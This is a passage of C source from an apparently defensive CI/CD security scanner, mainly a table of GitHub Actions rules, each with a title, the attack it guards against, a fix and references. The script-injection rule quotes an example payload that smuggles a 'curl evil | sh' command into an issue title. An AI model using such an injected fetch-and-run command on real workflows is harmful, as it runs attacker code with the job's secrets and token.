			insecure_commands_in(ctx, jb->steps[k].env, jb->ref);
	}
	ctx->object = saved;
}

/* The table is kept unformatted: its one-line strings are longer than the column limit. */
/* clang-format off */
const struct bh_rule bh_ci_rules[] = {
	{
		.id = "CI-001",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Image released without a blocking vulnerability scan",
		.attack = "An image with a known critical vulnerability reaches the registry and the cluster, where the agent's first exploited request owns it.",
		.fix = "Scan the built image before it is pushed or signed with a step that fails the job: trivy image --exit-code 1 --severity CRITICAL,HIGH (or trivy-action with exit-code: '1'), grype --fail-on high, or bulkhead vuln --fail-on high; no continue-on-error, no || true.",
		.refs = "OWASP CI/CD Top 10 CICD-SEC-3 (dependency chain abuse); NIST SSDF PW.4",
		.check = check_vuln_gate,
	},
	{
		.id = "CI-002",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "Vulnerability gate ignores HIGH severity",
		.attack = "Remotely exploitable HIGH vulnerabilities pass the gate and ship in the image.",
		.fix = "Include HIGH in the failing severities: --severity CRITICAL,HIGH, --fail-on high, severity-cutoff: high.",
		.refs = "NIST SSDF PW.4",
		.check = check_vuln_threshold,
	},
	{
		.id = "CI-003",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Pushed image is not signed",
		.attack = "Without a signature, the cluster cannot tell the image CI built from one an attacker pushed with stolen registry credentials.",
		.fix = "Sign the pushed digest after the push: cosign sign --yes IMAGE@DIGEST (keyless with id-token: write, or --key env://COSIGN_PRIVATE_KEY from a secret), or bulkhead sign.",
		.refs = "OWASP CI/CD Top 10 CICD-SEC-9 (improper artifact integrity validation); Sigstore cosign",
		.check = check_signed,
	},
	{
		.id = "CI-004",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "No SBOM attested to the pushed image",
		.attack = "When the next critical CVE lands nobody can tell which running images contain the package, and an unattested SBOM can be swapped for a clean-looking one.",
		.fix = "Generate an SBOM (syft IMAGE -o spdx-json, anchore/sbom-action, trivy --format spdx-json) and attest it to the pushed image: cosign attest --type spdxjson --predicate sbom.json IMAGE, actions/attest-sbom, or bulkhead attest.",
		.refs = "NTIA SBOM minimum elements; OWASP CI/CD Top 10 CICD-SEC-9; in-toto attestations",
		.check = check_sbom,
	},
	{
		.id = "CI-005",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "No secret scan of the repository",
		.attack = "A credential committed to the repository is copied into the image build context and history, where anyone who pulls the image or clones the repository finds it.",
		.fix = "Add a secret scan of the repository to the workflow or its directory: gitleaks detect, trufflehog git, gitleaks/gitleaks-action, or bulkhead secrets --git.",
		.refs = "OWASP CI/CD Top 10 CICD-SEC-6 (insufficient credential hygiene)",
		.check = check_secret_scan,
	},
	{
		.id = "CI-010",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Third-party action not pinned to a commit SHA",
		.attack = "Whoever controls the action's repository moves the tag or branch and runs code in the job with its secrets and token, as in the tj-actions/changed-files compromise.",
		.fix = "Pin to the full 40-character commit SHA with the version in a comment (uses: owner/action@<sha> # v1.2.3); let Dependabot or Renovate update it.",
		.refs = "GitHub security hardening: using third-party actions; OpenSSF Scorecard Pinned-Dependencies",
		.check = check_unpinned_third,
	},
	{
		.id = "CI-011",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_LOW,
		.title = "GitHub-owned action not pinned to a commit SHA",
		.attack = "A moved tag of a GitHub-owned action changes the code the job runs without any change to the workflow.",
		.fix = "Pin actions/* and github/* actions to full commit SHAs too, with the version in a comment.",
		.refs = "OpenSSF Scorecard Pinned-Dependencies",
		.check = check_unpinned_first,
	},
	{
		.id = "CI-012",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "No permissions block: default GITHUB_TOKEN scope",
		.attack = "Any step compromised in the job (a dependency, an action) inherits a token that may write to the repository, its releases and packages.",
		.fix = "Add permissions: {contents: read} at the workflow level and grant more only in the jobs that need it.",
		.refs = "GitHub security hardening: GITHUB_TOKEN permissions; OpenSSF Scorecard Token-Permissions; OWASP CI/CD Top 10 CICD-SEC-5",
		.check = check_no_permissions,
	},
	{
		.id = "CI-013",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "permissions: write-all",
		.attack = "Every step gets a token that can push code, publish packages and rewrite releases.",
		.fix = "List only the scopes the job needs, e.g. permissions: {contents: read, packages: write}.",
		.refs = "GitHub security hardening: GITHUB_TOKEN permissions",
		.check = check_write_all,
	},
	{
		.id = "CI-014",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "id-token: write in a job that does not use OIDC",
		.attack = "A compromised step mints OIDC tokens that cloud roles and Sigstore trust as this repository's identity.",
		.fix = "Grant id-token: write only to the job that signs, attests or exchanges the token with a cloud provider.",
		.refs = "GitHub OIDC hardening",
		.check = check_id_token,
	},
	{
		.id = "CI-015",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_CRITICAL,
		.title = "Privileged trigger runs the pull request's code",
		.attack = "A fork's pull request runs its own build scripts in a pull_request_target or workflow_run job that holds the repository's secrets and a write token (a 'pwn request').",
		.fix = "Use the pull_request trigger for building untrusted code, or check out the base branch only; pass results to a privileged workflow as artifacts treated as data.",
		.refs = "GitHub Security Lab: Preventing pwn requests; OWASP CI/CD Top 10 CICD-SEC-4 (poisoned pipeline execution)",
		.check = check_pwn_request,
	},
	{
		.id = "CI-016",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Script injection from an attacker-controlled context",
		.attack = "An issue title, branch name or commit message such as `a\"; curl evil | sh #` becomes shell code in the run: script, with the job's secrets and token.",
		.fix = "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script.",
		.refs = "GitHub security hardening: script injections; GitHub Security Lab: untrusted input; OWASP CI/CD Top 10 CICD-SEC-4",
		.check = check_injection,
	},
	{
		.id = "CI-017",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "Secret in the environment of a third-party action",
		.attack = "Every line of the third-party action, and every process it starts, can read and exfiltrate the secret from its environment.",
		.fix = "Pass secrets as with: inputs where the action takes them; where it only reads env (SONAR_TOKEN, SNYK_TOKEN), keep that env on its step alone, pin the action to a reviewed commit SHA, and scope the secret to that one service.",
		.refs = "GitHub security hardening: using secrets",
		.check = check_secrets_env,
	},
	{
		.id = "CI-018",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "Checkout persists the token for third-party code",
		.attack = "The checkout action stores the GITHUB_TOKEN in .git/config, where a later third-party action reads it and pushes to the repository.",
		.fix = "Set persist-credentials: false on actions/checkout in jobs that run third-party actions.",
		.refs = "actions/checkout persist-credentials; zizmor artipacked",
		.check = check_persist_credentials,
	},
	{
		.id = "CI-019",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Self-hosted runner on pull-request events",
		.attack = "A fork's pull request runs arbitrary code on the self-hosted machine and leaves a backdoor for the next privileged job.",
		.fix = "Run pull-request jobs on GitHub-hosted or ephemeral, isolated runners; keep self-hosted runners to private repositories or trusted triggers.",
		.refs = "GitHub: self-hosted runner security",
		.check = check_self_hosted,
	},
	{
		.id = "CI-020",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Signing key not taken from a secret",
		.attack = "A signing key in the workflow or the repository lets anyone who reads it sign malicious images that the cluster then trusts.",
		.fix = "Pass the key from a secret (COSIGN_PRIVATE_KEY: ${{ secrets.COSIGN_PRIVATE_KEY }} with --key env://COSIGN_PRIVATE_KEY), use a KMS URI, or sign keyless.",
		.refs = "Sigstore cosign key management",
		.check = check_signing_key,
	},
	{
		.id = "CI-021",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_MEDIUM,
		.title = "All secrets inherited by an external reusable workflow",
		.attack = "Passing secrets: inherit hands every repository and organisation secret to a workflow maintained elsewhere.",
		.fix = "Pass the secrets the called workflow declares, one by one, under secrets:.",
		.refs = "GitHub reusable workflows: passing secrets",
		.check = check_secrets_inherit,
	},
	{
		.id = "CI-022",
		.layer = BH_LAYER_CI,
		.severity = BH_SEV_HIGH,
		.title = "Deprecated workflow commands re-enabled",
		.attack = "An issue title or test output echoed to the log as ::set-env:: sets LD_PRELOAD or PATH for the following steps (CVE-2020-15228).",
		.fix = "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV and $GITHUB_PATH instead.",
		.refs = "CVE-2020-15228; GitHub changelog: deprecating set-env and add-path commands",
		.check = check_insecure_commands,
	},
};
/* clang-format on */
const size_t bh_ci_nrules = sizeof(bh_ci_rules) / sizeof(bh_ci_rules[0]);

void bh_ci_check(struct bh_ctx *ctx, const struct bh_ci_workflow *w)
{
	bh_rules_run(ctx, bh_ci_rules, bh_ci_nrules, w);
}
